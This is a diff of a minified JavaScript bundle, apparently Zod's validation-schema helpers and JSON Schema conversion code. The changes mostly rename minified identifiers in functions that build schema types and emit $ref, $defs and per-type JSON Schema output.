+normalizeParams(e)})}function OG(t,e){return new t({type:"transform",transform:e})}function AG(t,e){return new t({type:"\
+optional",innerType:e})}function SG(t,e){return new t({type:"nullable",innerType:e})}function TG(t,e,n){return new t({type:"\
+default",innerType:e,get defaultValue(){return typeof n=="function"?n():util.shallowClone(n)}})}function IG(t,e,n){return new t(
+{type:"nonoptional",innerType:e,...util.normalizeParams(n)})}function $G(t,e){return new t({type:"success",innerType:e})}
+function NG(t,e,n){return new t({type:"catch",innerType:e,catchValue:typeof n=="function"?n:util.constantCatch(n)})}function RG(t,e,n){
+return new t({type:"pipe",in:e,out:n})}function FG(t,e){return new t({type:"readonly",innerType:e})}function LG(t,e,n){return new t(
+{type:"template_literal",parts:e,...util.normalizeParams(n)})}function PG(t,e){return new t({type:"lazy",getter:e})}function jG(t,e){
+return new t({type:"promise",innerType:e})}function MG(t,e,n){const s=util.normalizeParams(n);return s.abort??(s.abort=!0),
+new t({type:"custom",check:"custom",fn:e,...s})}function Y_(t,e,n){return new t({type:"custom",check:"custom",fn:e,...Be(
+n)})}function X_(t,e){const n=Q_(s=>(s.addIssue=r=>{if(typeof r=="string")s.issues.push(Ss(r,s.value,n._zod.def));else{const i=r;
 i.fatal&&(i.continue=!1),i.code??(i.code="custom"),"input"in i||(i.input=s.value),i.inst??(i.inst=n),i.continue??(i.continue=
-!n._zod.def.abort),s.issues.push(Ts(i))}},t(s.value,s)),e);return n}function tE(t,e){const n=new ft({check:"custom",...Be(
-e)});return n._zod.check=t,n}function nE(t){const e=new ft({check:"describe"});return e._zod.onattach=[n=>{const s=on.get(
-n)??{};on.add(n,{...s,description:t})}],e._zod.check=()=>{},e}function sE(t){const e=new ft({check:"meta"});return e._zod.
-onattach=[n=>{const s=on.get(n)??{};on.add(n,{...s,...t})}],e._zod.check=()=>{},e}function VG(t,e){const n=util.normalizeParams(
+!n._zod.def.abort),s.issues.push(Ss(i))}},t(s.value,s)),e);return n}function Q_(t,e){const n=new ft({check:"custom",...Be(
+e)});return n._zod.check=t,n}function eE(t){const e=new ft({check:"describe"});return e._zod.onattach=[n=>{const s=on.get(
+n)??{};on.add(n,{...s,description:t})}],e._zod.check=()=>{},e}function tE(t){const e=new ft({check:"meta"});return e._zod.
+onattach=[n=>{const s=on.get(n)??{};on.add(n,{...s,...t})}],e._zod.check=()=>{},e}function GG(t,e){const n=util.normalizeParams(
 e);let s=n.truthy??["true","1","yes","on","y","enabled"],r=n.falsy??["false","0","no","off","n","disabled"];n.case!=="se\
 nsitive"&&(s=s.map(f=>typeof f=="string"?f.toLowerCase():f),r=r.map(f=>typeof f=="string"?f.toLowerCase():f));const i=new Set(
 s),o=new Set(r),a=t.Codec??schemas.$ZodCodec,c=t.Boolean??schemas.$ZodBoolean,l=t.String??schemas.$ZodString,u=new l({type:"\
 string",error:n.error}),d=new c({type:"boolean",error:n.error}),B=new a({type:"pipe",in:u,out:d,transform:((f,h)=>{let m=f;
 return n.case!=="sensitive"&&(m=m.toLowerCase()),i.has(m)?!0:o.has(m)?!1:(h.issues.push({code:"invalid_value",expected:"\
 stringbool",values:[...i,...o],input:h.value,inst:B,continue:!1}),{})}),reverseTransform:((f,h)=>f===!0?s[0]||"true":r[0]||
-"false"),error:n.error});return B._zod.bag.truthy=s,B._zod.bag.falsy=r,B._zod.bag.case=n.case??"insensitive",B}function YG(t,e,n,s={}){
+"false"),error:n.error});return B._zod.bag.truthy=s,B._zod.bag.falsy=r,B._zod.bag.case=n.case??"insensitive",B}function HG(t,e,n,s={}){
 const r=util.normalizeParams(s),i={check:"string_format",type:"string",format:e,fn:typeof n=="function"?n:a=>n.test(a),...r};
-return n instanceof RegExp&&(i.pattern=n),new t(i)}function Fs(t,...e){for(const n of e)for(const s of Reflect.ownKeys(n))
-Object.prototype.propertyIsEnumerable.call(n,s)&&gn(t,s,n[s]);return t}function Ol(t){let e=t?.target??"draft-2020-12";return e===
+return n instanceof RegExp&&(i.pattern=n),new t(i)}function Rs(t,...e){for(const n of e)for(const s of Reflect.ownKeys(n))
+Object.prototype.propertyIsEnumerable.call(n,s)&&gn(t,s,n[s]);return t}function xl(t){let e=t?.target??"draft-2020-12";return e===
 "draft-4"&&(e="draft-04"),e==="draft-7"&&(e="draft-07"),{processors:t.processors??{},metadataRegistry:t?.metadata??on,target:e,
 unrepresentable:t?.unrepresentable??"throw",override:t?.override??(()=>{}),io:t?.io??"output",counter:0,seen:new Map,sharedDefsExtractedFor:void 0,
 sharedEmitDoneFor:void 0,cycles:t?.cycles??"ref",reused:t?.reused??"inline",intersections:[],deferred:[],external:t?.external??
@@ -2501,17 +2501,17 @@ n.path),i.schema;const o={schema:{},count:1,cycle:void 0,path:n.path};e.seen.set
 sharedEmitDoneFor=void 0;const a=t._zod.toJSONSchema?.();if(a)o.schema=a;else{const u={...n,schemaPath:[...n.schemaPath,
 t],path:n.path};if(t._zod.processJSONSchema)t._zod.processJSONSchema(e,o.schema,u);else{const B=o.schema,f=e.processors[r.
 type];if(!f)throw new Error(`[toJSONSchema]: Non-representable type encountered: ${r.type}`);f(t,e,B,u)}const d=t._zod.parent;
-d&&(o.ref||(o.ref=d),et(d,e,u),e.seen.get(d).isParent=!0)}const c=e.metadataRegistry.get(t);return c&&Fs(o.schema,c),e.io===
+d&&(o.ref||(o.ref=d),et(d,e,u),e.seen.get(d).isParent=!0)}const c=e.metadataRegistry.get(t);return c&&Rs(o.schema,c),e.io===
 "input"&&_t(t)&&(delete o.schema.examples,delete o.schema.default),e.io==="input"&&"_prefault"in o.schema&&((s=o.schema).
-default??(s.default=o.schema._prefault)),delete o.schema._prefault,e.seen.get(t).schema}function Al(t){return t.replace(
-/~/g,"~0").replace(/\//g,"~1")}function Sl(t,e){const n=t.seen.get(e);if(!n)throw new Error("Unprocessed schema. This is\
+default??(s.default=o.schema._prefault)),delete o.schema._prefault,e.seen.get(t).schema}function Ol(t){return t.replace(
+/~/g,"~0").replace(/\//g,"~1")}function Al(t,e){const n=t.seen.get(e);if(!n)throw new Error("Unprocessed schema. This is\
  a bug in Zod.");if(t.external&&t.sharedDefsExtractedFor===t.external)return;const s=new Map;for(const o of t.seen.entries()){
 const a=t.metadataRegistry.get(o[0])?.id;if(a){const c=s.get(a);if(c&&c!==o[0])throw new Error(`Duplicate schema id "${a}\
 " detected during JSON Schema conversion. Two different schemas cannot share the same id when converted together.`);s.set(
 a,o[0])}}const r=o=>{const a=t.target==="draft-2020-12"?"$defs":"definitions";if(t.external){const d=t.external.registry.
 get(o[0])?.id,B=t.external.uri??(h=>h);if(d)return{ref:B(d)};const f=o[1].defId??o[1].schema.id??`schema${t.counter++}`;
-return o[1].defId=f,{defId:f,ref:`${B("__shared")}#/${a}/${Al(f)}`}}const c="#",l=`${c}/${a}/`;if(o[1]===n&&!o[1].schema.
-id)return{ref:c};const u=o[1].schema.id??`__schema${t.counter++}`;return{defId:u,ref:l+Al(u)}},i=o=>{if(o[1].schema.$ref)
+return o[1].defId=f,{defId:f,ref:`${B("__shared")}#/${a}/${Ol(f)}`}}const c="#",l=`${c}/${a}/`;if(o[1]===n&&!o[1].schema.
+id)return{ref:c};const u=o[1].schema.id??`__schema${t.counter++}`;return{defId:u,ref:l+Ol(u)}},i=o=>{if(o[1].schema.$ref)
 return;const a=o[1],{ref:c,defId:l}=r(o);a.def={...a.schema},l&&(a.defId=l);const u=a.schema;for(const d in u)delete u[d];
 u.$ref=c};if(t.cycles==="throw")for(const o of t.seen.entries()){const a=o[1];if(a.cycle)throw new Error(`Cycle detected\
 : #/${a.cycle?.join("/")}/<root>
@@ -2519,41 +2519,41 @@ u.$ref=c};if(t.cycles==="throw")for(const o of t.seen.entries()){const a=o[1];if
 Set the \`cycles\` parameter to \`"ref"\` to resolve cyclical schemas with defs.`)}for(const o of t.seen.entries()){const a=o[1];
 if(e===o[0]){i(o);continue}if(t.external){const l=t.external.registry.get(o[0])?.id;if(e!==o[0]&&l){i(o);continue}}if(t.
 metadataRegistry.get(o[0])?.id){i(o);continue}if(a.cycle){i(o);continue}a.count>1&&t.reused==="ref"&&i(o)}t.external&&(t.
-sharedDefsExtractedFor=t.external)}function Tl(t){const e=t.anyOf;if(!Array.isArray(e)||e.length===0||t.type!==void 0)return;
-const n=[];for(const s of e){if(!s||typeof s!="object")return;Tl(s);const r=Object.keys(s);if(r.length!==1||r[0]!=="type")
+sharedDefsExtractedFor=t.external)}function Sl(t){const e=t.anyOf;if(!Array.isArray(e)||e.length===0||t.type!==void 0)return;
+const n=[];for(const s of e){if(!s||typeof s!="object")return;Sl(s);const r=Object.keys(s);if(r.length!==1||r[0]!=="type")
 return;const i=s.type;for(const o of Array.isArray(i)?i:[i]){if(typeof o!="string")return;n.includes(o)||n.push(o)}}delete t.
-anyOf,t.type=n.length===1?n[0]:n}const Il=new Set(["type","properties","required","additionalProperties"]),$l=["oneOf","\
-anyOf"];function Rl(t){const e=t.additionalProperties;return e===void 0||e===!1||typeof e!="object"||e===null?null:Object.
+anyOf,t.type=n.length===1?n[0]:n}const Tl=new Set(["type","properties","required","additionalProperties"]),Il=["oneOf","\
+anyOf"];function $l(t){const e=t.additionalProperties;return e===void 0||e===!1||typeof e!="object"||e===null?null:Object.
 keys(e).length?e:null}function Io(t){const e=[];for(const i of t){if(typeof i!="object"||i.type!=="object")return null;for(const o in i)
-if(!Il.has(o))return null;e.push(i)}const n={},s=new Set;for(const i of e){for(const o in i.properties){if(Object.prototype.
-hasOwnProperty.call(n,o))continue;const a=[];for(const l of e){const u=l.properties?.[o]??Rl(l);u!=null&&(a.some(d=>JSON.
+if(!Tl.has(o))return null;e.push(i)}const n={},s=new Set;for(const i of e){for(const o in i.properties){if(Object.prototype.
+hasOwnProperty.call(n,o))continue;const a=[];for(const l of e){const u=l.properties?.[o]??$l(l);u!=null&&(a.some(d=>JSON.
 stringify(d)===JSON.stringify(u))||a.push(u))}const c=a.length===1?a[0]:Io(a)??{allOf:a};gn(n,o,c)}for(const o of i.required??
 [])s.add(o)}const r={type:"object",properties:n};if(s.size&&(r.required=[...s]),e.every(i=>i.additionalProperties===!1))
-r.additionalProperties=!1;else{const i=[];for(const o of e){const a=Rl(o);a&&!i.some(c=>JSON.stringify(c)===JSON.stringify(
-a))&&i.push(a)}i.length===1?r.additionalProperties=i[0]:i.length>1&&(r.additionalProperties={allOf:i})}return r}function rE(t){
-const e=t.allOf;if(!Array.isArray(e)||e.length<2)return;for(const r of Il)if(r in t)return;const n=e.filter(r=>$l.some(i=>Array.
-isArray(r[i])));let s=null;if(!n.length)s=Io(e);else{const r=n[0],i=$l.find(c=>Array.isArray(r[c]));if(Object.keys(r).length!==
-1)return;const o=e.filter(c=>c!==r),a=r[i].map(c=>Io([...o,c]));if(a.some(c=>!c))return;s={[i]:a}}s&&(delete t.allOf,Fs(
+r.additionalProperties=!1;else{const i=[];for(const o of e){const a=$l(o);a&&!i.some(c=>JSON.stringify(c)===JSON.stringify(
+a))&&i.push(a)}i.length===1?r.additionalProperties=i[0]:i.length>1&&(r.additionalProperties={allOf:i})}return r}function nE(t){
+const e=t.allOf;if(!Array.isArray(e)||e.length<2)return;for(const r of Tl)if(r in t)return;const n=e.filter(r=>Il.some(i=>Array.
+isArray(r[i])));let s=null;if(!n.length)s=Io(e);else{const r=n[0],i=Il.find(c=>Array.isArray(r[c]));if(Object.keys(r).length!==
+1)return;const o=e.filter(c=>c!==r),a=r[i].map(c=>Io([...o,c]));if(a.some(c=>!c))return;s={[i]:a}}s&&(delete t.allOf,Rs(
 t,s))}function Nl(t,e){const n=t.seen.get(e);if(!n)throw new Error("Unprocessed schema. This is a bug in Zod.");const s=a=>{
 const c=t.seen.get(a);if(c.ref===null)return;const l=c.def??c.schema,u={...l},d=c.ref;if(c.ref=null,d){s(d);const f=t.seen.
 get(d),h=f.schema;if(h.$ref&&(t.target==="draft-07"||t.target==="draft-04"||t.target==="openapi-3.0")?(l.allOf=l.allOf??
-[],l.allOf.push(h)):Fs(l,h),Fs(l,u),a._zod.parent===d)for(const g in l)g==="$ref"||g==="allOf"||g in u||delete l[g];if(h.
+[],l.allOf.push(h)):Rs(l,h),Rs(l,u),a._zod.parent===d)for(const g in l)g==="$ref"||g==="allOf"||g in u||delete l[g];if(h.
 $ref&&f.def)for(const g in l)g==="$ref"||g==="allOf"||g in f.def&&JSON.stringify(l[g])===JSON.stringify(f.def[g])&&delete l[g]}
 const B=a._zod.parent;if(B&&B!==d){s(B);const f=t.seen.get(B);if(f?.schema.$ref&&(l.$ref=f.schema.$ref,f.def))for(const h in l)
 h==="$ref"||h==="allOf"||h in f.def&&JSON.stringify(l[h])===JSON.stringify(f.def[h])&&delete l[h]}t.override({zodSchema:a,
 jsonSchema:l,path:c.path??[]})};if(!t.external||t.sharedEmitDoneFor!==t.external){for(const a of[...t.seen.entries()].reverse())
-s(a[0]);if(t.target!=="openapi-3.0")for(const a of t.seen.entries())Tl(a[1].def??a[1].schema);for(const a of t.deferred)
+s(a[0]);if(t.target!=="openapi-3.0")for(const a of t.seen.entries())Sl(a[1].def??a[1].schema);for(const a of t.deferred)
 a();if(t.intersections.length){const a=new Map;for(const c of t.seen.values())for(const l of[c.schema,c.def]){const u=l?.
 allOf;if(!Array.isArray(u))continue;const d=a.get(u);d?d.push(l):a.set(u,[l])}for(const c of t.intersections)for(const l of a.
-get(c)??[])rE(l)}}const r={};if(t.target==="draft-2020-12"?r.$schema="https://json-schema.org/draft/2020-12/schema":t.target===
+get(c)??[])nE(l)}}const r={};if(t.target==="draft-2020-12"?r.$schema="https://json-schema.org/draft/2020-12/schema":t.target===
 "draft-07"?r.$schema="http://json-schema.org/draft-07/schema#":t.target==="draft-04"?r.$schema="http://json-schema.org/d\
 raft-04/schema#":t.target,t.external?.uri){const a=t.external.registry.get(e)?.id;if(!a)throw new Error("Schema is missi\
-ng an `id` property");r.$id=t.external.uri(a)}Fs(r,n.defId?n.schema:n.def??n.schema);const i=t.metadataRegistry.get(e)?.
+ng an `id` property");r.$id=t.external.uri(a)}Rs(r,n.defId?n.schema:n.def??n.schema);const i=t.metadataRegistry.get(e)?.
 id;i!==void 0&&r.id===i&&delete r.id;const o=t.external?.defs??{};if(!t.external||t.sharedEmitDoneFor!==t.external)for(const a of t.
 seen.entries()){const c=a[1];c.def&&c.defId&&(c.def.id===c.defId&&delete c.def.id,gn(o,c.defId,c.def))}t.external&&(t.sharedEmitDoneFor=
 t.external),t.external||Object.keys(o).length>0&&(t.target==="draft-2020-12"?r.$defs=o:r.definitions=o);try{const a=JSON.
-parse(JSON.stringify(r));return Object.defineProperty(a,"~standard",{value:{...e["~standard"],jsonSchema:{input:Ar(e,"in\
-put",t.processors),output:Ar(e,"output",t.processors)}},enumerable:!1,writable:!1}),a}catch{throw new Error("Error conve\
+parse(JSON.stringify(r));return Object.defineProperty(a,"~standard",{value:{...e["~standard"],jsonSchema:{input:xr(e,"in\
+put",t.processors),output:xr(e,"output",t.processors)}},enumerable:!1,writable:!1}),a}catch{throw new Error("Error conve\
 rting schema to JSON.")}}function _t(t,e){const n=e??{seen:new Set};if(n.seen.has(t))return!1;n.seen.add(t);const s=t._zod.
 def;if(s.type==="transform")return!0;if(s.type==="array")return _t(s.element,n);if(s.type==="set")return _t(s.valueType,
 n);if(s.type==="lazy")return _t(s.getter(),n);if(s.type==="promise"||s.type==="optional"||s.type==="nonoptional"||s.type===
@@ -2561,70 +2561,70 @@ n);if(s.type==="lazy")return _t(s.getter(),n);if(s.type==="promise"||s.type==="o
 type==="intersection")return _t(s.left,n)||_t(s.right,n);if(s.type==="record"||s.type==="map")return _t(s.keyType,n)||_t(
 s.valueType,n);if(s.type==="pipe")return t._zod.traits.has("$ZodCodec")?!0:_t(s.in,n)||_t(s.out,n);if(s.type==="object"){
 for(const r in s.shape)if(_t(s.shape[r],n))return!0;return!1}if(s.type==="union"){for(const r of s.options)if(_t(r,n))return!0;
-return!1}if(s.type==="tuple"){for(const r of s.items)if(_t(r,n))return!0;return!!(s.rest&&_t(s.rest,n))}return!1}const iE=(t,e={})=>n=>{
-const s=Ol({...n,processors:e});return et(t,s),Sl(s,t),Nl(s,t)},Ar=(t,e,n={})=>s=>{const{libraryOptions:r,target:i}=s??{},
-o=Ol({...r??{},target:i,io:e,processors:n});return et(t,o),Sl(o,t),Nl(o,t)},us=(t,e,n)=>{(t[e]===void 0||n>t[e])&&(t[e]=
-n)},ls=(t,e,n)=>{(t[e]===void 0||n<t[e])&&(t[e]=n)},Fl=(t,e)=>{us(t,"minimum",e),ls(t,"maximum",e)},Ll=(t,e)=>{t.multipleOf??
-(t.multipleOf=[]),t.multipleOf.includes(e)||t.multipleOf.push(e)},Pl=(t,e)=>{t.patterns??(t.patterns=new Set),t.patterns.
-add(e)},jl=(t,e)=>{t.mime=t.mime?t.mime.filter(n=>e.includes(n)):[...e]},Ml=(t,e)=>{t.format=e,e.includes("int")&&(t.isInt=
-!0)},Gl=(t,e)=>us(t,"minimum",e.minimum),Hl=(t,e)=>ls(t,"maximum",e.maximum),zl=t=>(e,n)=>{Ml(e,n.format);const[s,r]=t[n.
-format];us(e,"minimum",s),ls(e,"maximum",r)},oE={greater_than:(t,e)=>us(t,e.inclusive?"minimum":"exclusiveMinimum",e.value),
-less_than:(t,e)=>ls(t,e.inclusive?"maximum":"exclusiveMaximum",e.value),multiple_of:(t,e)=>Ll(t,e.value),number_format:zl(
-Pu),bigint_format:zl(Iy),min_length:Gl,max_length:Hl,length_equals:(t,e)=>Fl(t,e.length),min_size:Gl,max_size:Hl,size_equals:(t,e)=>Fl(
-t,e.size),string_format:(t,e)=>{Ml(t,e.format),e.pattern&&Pl(t,e.pattern),(e.format==="base64"||e.format==="base64url")&&
-(t.contentEncoding=e.format),(e.local||e.precision===-1)&&(t.laxFormat=!0)},mime_type:(t,e)=>jl(t,e.mime)};function ct(t){
-const e={},n=t._zod.def,s=t._zod.traits.has("$ZodCheck")?[t,...n.checks??[]]:n.checks??[];for(const i of s)oE[i._zod.def.
+return!1}if(s.type==="tuple"){for(const r of s.items)if(_t(r,n))return!0;return!!(s.rest&&_t(s.rest,n))}return!1}const sE=(t,e={})=>n=>{
+const s=xl({...n,processors:e});return et(t,s),Al(s,t),Nl(s,t)},xr=(t,e,n={})=>s=>{const{libraryOptions:r,target:i}=s??{},
+o=xl({...r??{},target:i,io:e,processors:n});return et(t,o),Al(o,t),Nl(o,t)},us=(t,e,n)=>{(t[e]===void 0||n>t[e])&&(t[e]=
+n)},ls=(t,e,n)=>{(t[e]===void 0||n<t[e])&&(t[e]=n)},Rl=(t,e)=>{us(t,"minimum",e),ls(t,"maximum",e)},Fl=(t,e)=>{t.multipleOf??
+(t.multipleOf=[]),t.multipleOf.includes(e)||t.multipleOf.push(e)},Ll=(t,e)=>{t.patterns??(t.patterns=new Set),t.patterns.
+add(e)},Pl=(t,e)=>{t.mime=t.mime?t.mime.filter(n=>e.includes(n)):[...e]},jl=(t,e)=>{t.format=e,e.includes("int")&&(t.isInt=
+!0)},Ml=(t,e)=>us(t,"minimum",e.minimum),Gl=(t,e)=>ls(t,"maximum",e.maximum),Hl=t=>(e,n)=>{jl(e,n.format);const[s,r]=t[n.
+format];us(e,"minimum",s),ls(e,"maximum",r)},rE={greater_than:(t,e)=>us(t,e.inclusive?"minimum":"exclusiveMinimum",e.value),
+less_than:(t,e)=>ls(t,e.inclusive?"maximum":"exclusiveMaximum",e.value),multiple_of:(t,e)=>Fl(t,e.value),number_format:Hl(
+Lu),bigint_format:Hl(Sy),min_length:Ml,max_length:Gl,length_equals:(t,e)=>Rl(t,e.length),min_size:Ml,max_size:Gl,size_equals:(t,e)=>Rl(
+t,e.size),string_format:(t,e)=>{jl(t,e.format),e.pattern&&Ll(t,e.pattern),(e.format==="base64"||e.format==="base64url")&&
+(t.contentEncoding=e.format),(e.local||e.precision===-1)&&(t.laxFormat=!0)},mime_type:(t,e)=>Pl(t,e.mime)};function ct(t){
+const e={},n=t._zod.def,s=t._zod.traits.has("$ZodCheck")?[t,...n.checks??[]]:n.checks??[];for(const i of s)rE[i._zod.def.
 check]?.(e,i._zod.def);const r=t._zod.bag;r.minimum!==void 0&&us(e,"minimum",r.minimum),r.exclusiveMinimum!==void 0&&us(
 e,"exclusiveMinimum",r.exclusiveMinimum),r.maximum!==void 0&&ls(e,"maximum",r.maximum),r.exclusiveMaximum!==void 0&&ls(e,
-"exclusiveMaximum",r.exclusiveMaximum),r.multipleOf!==void 0&&Ll(e,r.multipleOf),r.format!==void 0&&(e.format??(e.format=
-r.format),r.format.includes("int")&&(e.isInt=!0)),r.mime&&jl(e,r.mime);for(const i of r.patterns??[])Pl(e,i);return e}const aE={
-guid:"uuid",url:"uri",datetime:"date-time",json_string:"json-string",regex:""},cE=new Map([[ol,ww],[Ao,bw]]),Ul=t=>cE.get(
-t)??t,Jl=(t,e,n,s)=>{const r=n;r.type="string";const{minimum:i,maximum:o,format:a,patterns:c,contentEncoding:l,laxFormat:u}=ct(
-t);if(typeof i=="number"&&(r.minLength=i),typeof o=="number"&&(r.maxLength=o),a&&(r.format=aE[a]??a,r.format===""&&delete r.
-format,(a==="time"||u)&&delete r.format),l&&(r.contentEncoding=l),c&&c.size>0){const d=[...c].map(Ul);d.length===1?r.pattern=
+"exclusiveMaximum",r.exclusiveMaximum),r.multipleOf!==void 0&&Fl(e,r.multipleOf),r.format!==void 0&&(e.format??(e.format=
+r.format),r.format.includes("int")&&(e.isInt=!0)),r.mime&&Pl(e,r.mime);for(const i of r.patterns??[])Ll(e,i);return e}const iE={
+guid:"uuid",url:"uri",datetime:"date-time",json_string:"json-string",regex:""},oE=new Map([[il,Cw],[Ao,yw]]),zl=t=>oE.get(
+t)??t,Ul=(t,e,n,s)=>{const r=n;r.type="string";const{minimum:i,maximum:o,format:a,patterns:c,contentEncoding:l,laxFormat:u}=ct(
+t);if(typeof i=="number"&&(r.minLength=i),typeof o=="number"&&(r.maxLength=o),a&&(r.format=iE[a]??a,r.format===""&&delete r.
+format,(a==="time"||u)&&delete r.format),l&&(r.contentEncoding=l),c&&c.size>0){const d=[...c].map(zl);d.length===1?r.pattern=
 d[0].source:d.length>1&&(r.allOf=[...d.map(B=>({...e.target==="draft-07"||e.target==="draft-04"||e.target==="openapi-3.0"?
-{type:"string"}:{},pattern:B.source}))])}},Zl=(t,e,n,s)=>{const r=n,{minimum:i,maximum:o,multipleOf:a,exclusiveMaximum:c,
+{type:"string"}:{},pattern:B.source}))])}},Jl=(t,e,n,s)=>{const r=n,{minimum:i,maximum:o,multipleOf:a,exclusiveMaximum:c,
 exclusiveMinimum:l,isInt:u}=ct(t);r.type=u?"integer":"number";const d=typeof l=="number"&&l>=(i??Number.NEGATIVE_INFINITY),
 B=typeof c=="number"&&c<=(o??Number.POSITIVE_INFINITY),f=e.target==="draft-04"||e.target==="openapi-3.0";if(d?f?(r.minimum=
 l,r.exclusiveMinimum=!0):r.exclusiveMinimum=l:typeof i=="number"&&(r.minimum=i),B?f?(r.maximum=c,r.exclusiveMaximum=!0):
 r.exclusiveMaximum=c:typeof o=="number"&&(r.maximum=o),a){const h=new Set;for(const C of a)Number.isFinite(C)&&C!==0?h.add(
 Math.abs(C)):ht(t,e,r,s,`A multipleOf divisor of ${C} cannot be represented in JSON Schema`);const[m,...g]=h;m!==void 0&&
-(r.multipleOf=m),g.length&&(r.allOf=[...r.allOf??[],...g.map(C=>({multipleOf:C}))])}},Kl=(t,e,n,s)=>{n.type="boolean"},Wl=(t,e,n,s)=>{
-ht(t,e,n,s,"BigInt cannot be represented in JSON Schema")},uE=(t,e,n,s)=>{ht(t,e,n,s,"Symbols cannot be represented in J\
-SON Schema")},lE=(t,e,n,s)=>{e.target==="openapi-3.0"?(n.type="string",n.nullable=!0,n.enum=[null]):n.type="null"},dE=(t,e,n,s)=>{
-ht(t,e,n,s,"Undefined cannot be represented in JSON Schema")},BE=(t,e,n,s)=>{ht(t,e,n,s,"Void cannot be represented in J\
-SON Schema")},ql=(t,e,n,s)=>{n.not={}},fE=(t,e,n,s)=>{},Vl=(t,e,n,s)=>{},Yl=(t,e,n,s)=>{ht(t,e,n,s,"Date cannot be repre\
-sented in JSON Schema")},Xl=(t,e,n,s)=>{const r=t._zod.def,i=fo(r.entries);if(i.length===0){n.not={};return}i.every(o=>typeof o==
-"number")&&(n.type="number"),i.every(o=>typeof o=="string")&&(n.type="string"),n.enum=i},Ql=(t,e,n,s)=>{const r=t._zod.def;
+(r.multipleOf=m),g.length&&(r.allOf=[...r.allOf??[],...g.map(C=>({multipleOf:C}))])}},Zl=(t,e,n,s)=>{n.type="boolean"},Kl=(t,e,n,s)=>{
+ht(t,e,n,s,"BigInt cannot be represented in JSON Schema")},aE=(t,e,n,s)=>{ht(t,e,n,s,"Symbols cannot be represented in J\
+SON Schema")},cE=(t,e,n,s)=>{e.target==="openapi-3.0"?(n.type="string",n.nullable=!0,n.enum=[null]):n.type="null"},uE=(t,e,n,s)=>{
+ht(t,e,n,s,"Undefined cannot be represented in JSON Schema")},lE=(t,e,n,s)=>{ht(t,e,n,s,"Void cannot be represented in J\
+SON Schema")},Wl=(t,e,n,s)=>{n.not={}},dE=(t,e,n,s)=>{},ql=(t,e,n,s)=>{},Vl=(t,e,n,s)=>{ht(t,e,n,s,"Date cannot be repre\
+sented in JSON Schema")},Yl=(t,e,n,s)=>{const r=t._zod.def,i=fo(r.entries);if(i.length===0){n.not={};return}i.every(o=>typeof o==
+"number")&&(n.type="number"),i.every(o=>typeof o=="string")&&(n.type="string"),n.enum=i},Xl=(t,e,n,s)=>{const r=t._zod.def;
 if(r.values.length===0){n.not={};return}const i=[];for(const o of r.values)if(o===void 0){if(ht(t,e,n,s,"Literal `undefi\
 ned` cannot be represented in JSON Schema"))return}else if(typeof o=="bigint"){if(ht(t,e,n,s,"BigInt literals cannot be \
 represented in JSON Schema"))return;i.push(Number(o))}else i.push(o);if(i.length!==0)if(i.length===1){const o=i[0];n.type=
 o===null?"null":typeof o,e.target==="draft-04"||e.target==="openapi-3.0"?n.enum=[o]:n.const=o}else i.every(o=>typeof o==
 "number")&&(n.type="number"),i.every(o=>typeof o=="string")&&(n.type="string"),i.every(o=>typeof o=="boolean")&&(n.type=
-"boolean"),i.every(o=>o===null)&&(n.type="null"),n.enum=i},hE=(t,e,n,s)=>{ht(t,e,n,s,"NaN cannot be represented in JSON \
-Schema")},pE=(t,e,n,s)=>{const r=n,i=t._zod.pattern;if(!i)throw new Error("Pattern not found in template literal");r.type=
-"string",r.pattern=i.source},mE=(t,e,n,s)=>{const r=n;r.type="string",r.format="binary",r.contentEncoding="binary";const{
+"boolean"),i.every(o=>o===null)&&(n.type="null"),n.enum=i},BE=(t,e,n,s)=>{ht(t,e,n,s,"NaN cannot be represented in JSON \
+Schema")},fE=(t,e,n,s)=>{const r=n,i=t._zod.pattern;if(!i)throw new Error("Pattern not found in template literal");r.type=
+"string",r.pattern=i.source},hE=(t,e,n,s)=>{const r=n;r.type="string",r.format="binary",r.contentEncoding="binary";const{
 minimum:i,maximum:o,mime:a}=ct(t);i!==void 0&&(r.minLength=i),o!==void 0&&(r.maxLength=o),a&&(a.length===0?r.not={}:a.length===
-1?r.contentMediaType=a[0]:r.anyOf=a.map(c=>({contentMediaType:c})))},gE=(t,e,n,s)=>{n.type="boolean"},ed=(t,e,n,s)=>{ht(
-t,e,n,s,"Custom types cannot be represented in JSON Schema")},CE=(t,e,n,s)=>{ht(t,e,n,s,"Function types cannot be repres\
-ented in JSON Schema")},td=(t,e,n,s)=>{ht(t,e,n,s,"Transforms cannot be represented in JSON Schema")},yE=(t,e,n,s)=>{ht(
-t,e,n,s,"Map cannot be represented in JSON Schema")},wE=(t,e,n,s)=>{ht(t,e,n,s,"Set cannot be represented in JSON Schema")},
-nd=(t,e,n,s)=>{const r=n,i=t._zod.def,{minimum:o,maximum:a}=ct(t);typeof o=="number"&&(r.minItems=o),typeof a=="number"&&
-(r.maxItems=a),r.type="array",r.items=et(i.element,e,{...s,path:[...s.path,"items"]})};function Ls(t){const e=t._zod.def;
-return e.type==="pipe"&&e.in._zod.traits.has("$ZodTransform")?Ls(e.out):e.type==="catch"?Ls(e.innerType):t._zod.optin}const sd=(t,e,n,s)=>{
+1?r.contentMediaType=a[0]:r.anyOf=a.map(c=>({contentMediaType:c})))},pE=(t,e,n,s)=>{n.type="boolean"},Ql=(t,e,n,s)=>{ht(
+t,e,n,s,"Custom types cannot be represented in JSON Schema")},mE=(t,e,n,s)=>{ht(t,e,n,s,"Function types cannot be repres\
+ented in JSON Schema")},ed=(t,e,n,s)=>{ht(t,e,n,s,"Transforms cannot be represented in JSON Schema")},gE=(t,e,n,s)=>{ht(
+t,e,n,s,"Map cannot be represented in JSON Schema")},CE=(t,e,n,s)=>{ht(t,e,n,s,"Set cannot be represented in JSON Schema")},
+td=(t,e,n,s)=>{const r=n,i=t._zod.def,{minimum:o,maximum:a}=ct(t);typeof o=="number"&&(r.minItems=o),typeof a=="number"&&
+(r.maxItems=a),r.type="array",r.items=et(i.element,e,{...s,path:[...s.path,"items"]})};function Fs(t){const e=t._zod.def;
+return e.type==="pipe"&&e.in._zod.traits.has("$ZodTransform")?Fs(e.out):e.type==="catch"?Fs(e.innerType):t._zod.optin}const nd=(t,e,n,s)=>{
 const r=n,i=t._zod.def,o=i.shape;if(Object.getOwnPropertySymbols(o).length&&ht(t,e,r,s,"Symbol keys cannot be represente\
 d in JSON Schema"))return;r.type="object",r.properties={};for(const l in o)gn(r.properties,l,et(o[l],e,{...s,path:[...s.
-path,"properties",l]}));const c=[];for(const l of Object.keys(o)){const u=i.shape[l];(e.io==="input"?Ls(u)===void 0:u._zod.
